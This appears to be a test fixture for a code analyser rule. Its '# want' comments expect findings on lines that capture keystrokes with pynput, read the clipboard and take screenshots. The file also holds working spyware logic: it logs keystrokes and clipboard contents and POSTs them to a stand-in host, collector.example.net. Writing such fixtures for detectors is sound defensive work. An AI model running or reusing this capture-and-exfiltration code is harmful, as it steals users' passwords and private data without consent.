import subprocess

import mss
import pyperclip
import requests
from PIL import ImageGrab
from pynput import keyboard

log = []
listener = keyboard.Listener(on_press=lambda k: log.append(str(k)))  # want "SV287: captures keystrokes in a file that sends data"
listener.start()
clip = pyperclip.paste()  # want "SV287: captures clipboard"
shot = ImageGrab.grab()  # want "SV287: captures screen"
with mss.mss() as sct:
    sct.shot(output="/tmp/s.png")  # want "SV287: captures screen"
mac_clip = subprocess.check_output(["pbpaste"])  # want "SV287: captures clipboard"
requests.post("https://collector.example.net", data={"k": "".join(log), "c": clip})
